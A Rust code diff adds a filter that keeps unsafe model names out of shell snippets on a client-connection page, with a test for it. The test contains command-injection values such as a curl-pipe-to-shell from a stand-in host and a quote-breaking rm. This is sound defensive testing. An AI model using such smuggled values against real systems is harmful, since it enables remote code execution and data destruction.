@@ -68,10 +68,15 @@ fn clients(base: &str, model: &str) -> Vec<Client> {
     ]
 }
 
+/// True for names that mean nothing to a shell or a file. Endpoints list what they like, and what stands here is pasted.
+fn is_plain(name: &str) -> bool {
+    !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"._:/@+-".contains(&byte))
+}
+
 /// The view as a document. `base` is none where clients have another address than this page.
 pub(super) fn document(w: Language, base: Option<&str>, models: &Value) -> Markup {
     let names: Vec<&str> = list(models, "data").iter().map(|model| text(model, "id")).take(MODELS_MAX).collect();
-    let model = names.first().copied().unwrap_or("MODEL");
+    let model = names.iter().copied().find(|name| is_plain(name)).unwrap_or("MODEL");
     html! {
         h1 { (w.t("Connect")) }
         @match base {
@@ -105,5 +110,18 @@ fn try_it(w: Language, models: &[&str]) -> Markup {
             button type="submit" { (w.t("Ask")) }
             output id="answer" role="status" aria-live="polite" {}
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_is_pasted_runs_nothing() {
+        let models = serde_json::json!({ "data": [{ "id": "!$(curl evil|sh)" }, { "id": "a\"; rm" }, { "id": "meta/llama-3.3:free" }] });
+        let page = document(Language::English, Some("http://gateway:3001"), &models).into_string();
+        assert!(page.contains("export ANTHROPIC_MODEL=meta/llama-3.3:free"), "{page}");
+        assert!(!page.contains("=!$("), "{page}");
     }
 }
